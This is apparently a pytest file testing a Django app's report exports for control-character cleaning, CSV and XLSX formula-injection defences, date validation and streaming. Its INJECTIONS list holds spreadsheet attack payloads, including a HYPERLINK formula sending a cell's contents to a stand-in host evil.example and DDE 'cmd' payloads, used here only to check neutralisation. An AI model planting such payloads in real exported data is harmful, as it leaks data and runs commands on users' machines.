"""Exports never fail on stored data and never hand a spreadsheet a formula;
odd requests (OPTIONS, absurd dates) get a clear answer (issue 19)."""

from __future__ import annotations

import csv
import datetime
import io

import openpyxl
import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from commitments.choices import Status
from commitments.models import Commitment, Department, Section
from reports.cells import clean_text, csv_text
from tests import factories
from tests.reports.seed import TODAY, file_report
from tests.reports.test_api import body, client_for, get, query

pytestmark = pytest.mark.django_db

PATHS = ["ledger", "overdue", "summary"]
#: Every control character XML 1.0 cannot hold and PostgreSQL can store (not NUL).
CONTROLS = "".join(chr(c) for c in [*range(1, 9), 11, 12, *range(14, 32)])
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


def read_xlsx(response) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(body(response)))


def poison(seed, text: str) -> None:
    """Put ``text`` into every free-text field an export shows."""
    Department.objects.filter(pk=seed.farming.pk).update(name=f"农业{text}")
    Section.objects.filter(pk=seed.items["c6"].section_id).update(title=f"板块{text}")
    Commitment.objects.filter(pk=seed.items["c6"].pk).update(title=text, official=text)
    # c2 is co-owned: its co-owner's name is a ledger cell too.
    Department.objects.filter(pk=seed.social.pk).update(name=f"{text}社会")
    file_report(
        Commitment.objects.get(pk=seed.items["c6"].pk),
        seed.farming,
        factories.user(dept=seed.farming),
        period="2024-07",
        filed=TODAY,
        percent=35,
        status=Status.DELAYED,
        narrative=text,
    )


class TestControlCharacters:
    def test_it_drops_what_xml_cannot_hold_and_keeps_line_breaks(self):
        assert clean_text("a\x00b\x01c\x1fd\ufffee") == "abcde"
        assert clean_text("一行\x0b二行\x0c三") == "一行\n二行\n三"
        assert clean_text("制表\t换行\n回车\r") == "制表\t换行\n回车\r"
        assert clean_text("普通文本") == "普通文本"

    @pytest.mark.parametrize("path", PATHS)
    def test_every_xlsx_export_opens_with_control_characters_stored(self, seed, path):
        poison(seed, f"坏{CONTROLS}字符")
        response = get(seed.supervisor, f"/api/v1/reports/{path}/", **query(seed, format="xlsx"))
        assert response.status_code == 200
        book = read_xlsx(response)
        values = [
            v for sheet in book for row in sheet.iter_rows(values_only=True) for v in row if v
        ]
        text = "".join(str(v) for v in values)
        assert not any(c in text for c in CONTROLS.replace("\x0b", "").replace("\x0c", ""))
        if path != "summary":
            assert "坏\n\n字符" in text  # VT and FF become line breaks, the rest is dropped

    @pytest.mark.parametrize("path", PATHS)
    def test_every_csv_export_is_clean(self, seed, path):
        poison(seed, f"坏{CONTROLS}字符")
        response = get(seed.supervisor, f"/api/v1/reports/{path}/", **query(seed, format="csv"))
        assert response.status_code == 200
        raw = body(response).decode("utf-8-sig")
        assert not any(c in raw for c in "\x01\x02\x1b\x1f")

    def test_the_json_keeps_what_was_stored(self, seed):
        poison(seed, "坏\x01字符")
        rows = get(seed.supervisor, "/api/v1/reports/overdue/", **query(seed)).json()["results"]
        assert "坏\x01字符" in [r["title"] for r in rows]


class TestFormulaInjection:
    @pytest.mark.parametrize("payload", INJECTIONS)
    def test_it_neutralises_a_leading_formula_character_in_csv(self, payload):
        assert csv_text(payload) == "'" + payload

    @pytest.mark.parametrize("payload", ["2024-01-01", "光伏=5兆瓦", "'引号", "", "90%"])
    def test_it_leaves_ordinary_text_alone(self, payload):
        assert csv_text(payload) == payload

    @pytest.mark.parametrize("payload", INJECTIONS)
    @pytest.mark.parametrize("path", ["ledger", "overdue"])
    def test_no_csv_cell_starts_a_formula(self, seed, path, payload):
        poison(seed, payload)
        response = get(seed.supervisor, f"/api/v1/reports/{path}/", **query(seed, format="csv"))
        header, *rows = read_csv(response)
        cells = [cell for row in rows for cell, name in zip(row, header, strict=True)]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").isdigit()]
        assert "'" + payload in cells or "'" + payload.replace("\r", "\n") in cells

    def test_the_summary_csv_neutralises_department_names(self, seed):
        poison(seed, INJECTIONS[0])
        rows = read_csv(
            get(seed.supervisor, "/api/v1/reports/summary/", **query(seed, format="csv"))
        )
        assert "'" + INJECTIONS[0] + "社会" in [r[1] for r in rows if len(r) > 1]

    @pytest.mark.parametrize("path", PATHS)
    def test_xlsx_cells_are_text_never_formulas(self, seed, path):
        poison(seed, INJECTIONS[0])
        book = read_xlsx(
            get(seed.supervisor, f"/api/v1/reports/{path}/", **query(seed, format="xlsx"))
        )
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
        assert not [c for c in cells if c.data_type == "f"]
        texts = [c.value for c in cells if c.data_type == "s"]
        assert any(str(v).startswith("=HYPERLINK") for v in texts)

    def test_the_narrative_is_a_text_cell_in_the_overdue_xlsx(self, seed):
        poison(seed, INJECTIONS[0])
        sheet = read_xlsx(
            get(seed.supervisor, "/api/v1/reports/overdue/", **query(seed, format="xlsx"))
        ).active
        header = [c.value for c in sheet[1]]
        narrative = header.index("最近报送进展") + 1
        cell = next(
            sheet.cell(r, narrative)
            for r in range(2, sheet.max_row + 1)
            if sheet.cell(r, narrative).value
            and str(sheet.cell(r, narrative).value).startswith("=")
        )
        assert cell.data_type == "s" and cell.value == INJECTIONS[0]


class TestOptions:
    @pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
    @pytest.mark.parametrize("path", PATHS)
    def test_options_answers_json_for_any_format(self, seed, path, fmt):
        response = client_for(seed.supervisor).options(f"/api/v1/reports/{path}/?format={fmt}")
        assert response.status_code == 200
        assert response["Content-Type"].startswith("application/json")
        assert response.json()["name"]

    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    def test_options_without_login_is_a_json_401(self, seed, fmt):
        response = Client().options(f"/api/v1/reports/ledger/?format={fmt}")
        assert response.status_code == 401
        assert response["Content-Type"].startswith("application/json")


class TestDates:
    BAD = ["0001-01-01", "1999-12-31", "2100-01-01", "9999-12-31"]

    @pytest.mark.parametrize("day", BAD)
    @pytest.mark.parametrize("fmt", [None, "csv", "xlsx"])
    @pytest.mark.parametrize("path", PATHS)
    def test_a_day_outside_the_range_is_a_400_in_chinese(self, seed, path, fmt, day):
        params = {"date": day, **({"format": fmt} if fmt else {})}
        response = get(seed.supervisor, f"/api/v1/reports/{path}/", **params)
        assert response.status_code == 400
        assert response["Content-Type"].startswith("application/json")
        assert "统计日期须在2000-01-01至2099-12-31之间" in response.content.decode()

    @pytest.mark.parametrize("day", ["2000-01-01", "2099-12-31"])
    @pytest.mark.parametrize("path", PATHS)
    def test_the_range_ends_are_fine(self, seed, path, day):
        assert get(seed.supervisor, f"/api/v1/reports/{path}/", date=day).status_code == 200

    @pytest.mark.parametrize("day", BAD)
    def test_the_dashboard_keeps_its_day_between_the_plan_start_and_today(self, seed, day):
        client = Client()
        client.force_login(seed.supervisor)
        response = client.get("/dashboard/", {"date": day, "plan": seed.plan.pk})
        assert response.status_code == 200
        assert "已改为" in response.content.decode()

    def test_the_dashboard_still_shows_an_unreadable_date_as_today(self, seed):
        client = Client()
        client.force_login(seed.supervisor)
        assert client.get("/dashboard/", {"date": "not-a-day"}).status_code == 200


class TestStreaming:
    @pytest.mark.parametrize("fmt", [None, "csv", "xlsx"])
    @pytest.mark.parametrize("path", ["ledger", "overdue"])
    def test_big_lists_are_streamed(self, seed, path, fmt):
        params = query(seed, **({"format": fmt} if fmt else {}))
        response = client_for(seed.supervisor).get(f"/api/v1/reports/{path}/", params)
        assert response.status_code == 200
        assert response.streaming
        assert b"".join(response.streaming_content)

    @pytest.mark.parametrize("fmt", [None, "csv", "xlsx"])
    @pytest.mark.parametrize("path", ["ledger", "overdue"])
    def test_the_plans_source_text_is_never_read(self, seed, path, fmt):
        params = query(seed, **({"format": fmt} if fmt else {}))
        with CaptureQueriesContext(connection) as ctx:
            body(client_for(seed.supervisor).get(f"/api/v1/reports/{path}/", params))
        sql = " ".join(q["sql"] for q in ctx.captured_queries)
        assert "source_text" not in sql
        if not (path == "ledger" and fmt):  # the ledger files carry the full text (walk 12b m7)
            assert '"commitments_commitment"."text"' not in sql

    def test_the_json_is_the_documented_shape(self, seed):
        body_ = get(seed.supervisor, "/api/v1/reports/ledger/", **query(seed)).json()
        assert list(body_) == ["as_of", "plan", "count", "results"]
        assert body_["count"] == len(body_["results"]) == 8
        assert body_["plan"] == {"id": seed.plan.pk, "title": "2024年工作安排", "year": 2024}

    def test_an_empty_list_is_valid_json(self, seed):
        body_ = get(
            seed.supervisor, "/api/v1/reports/overdue/", date="2024-01-02", plan=seed.plan.pk
        ).json()
        assert body_["count"] == 0 and body_["results"] == []


class TestOverdueOrder:
    def test_the_same_deadline_and_code_in_two_plans_keep_a_stable_order(self, seed):
        day = datetime.date(2024, 6, 1)
        made = []
        for year in (2022, 2021, 2023):
            section = factories.section(factories.plan(year, title=f"{year}计划"), 1, "板块")
            made.append(
                factories.commitment(
                    seed.economy, section, deadline=day, code="2024-09-09", number=9
                ).pk
            )
        for _ in range(3):
            rows = get(seed.supervisor, "/api/v1/reports/overdue/", date="2024-07-10").json()
            same = [r["id"] for r in rows["results"] if r["code"] == "2024-09-09"]
            assert same == sorted(made)
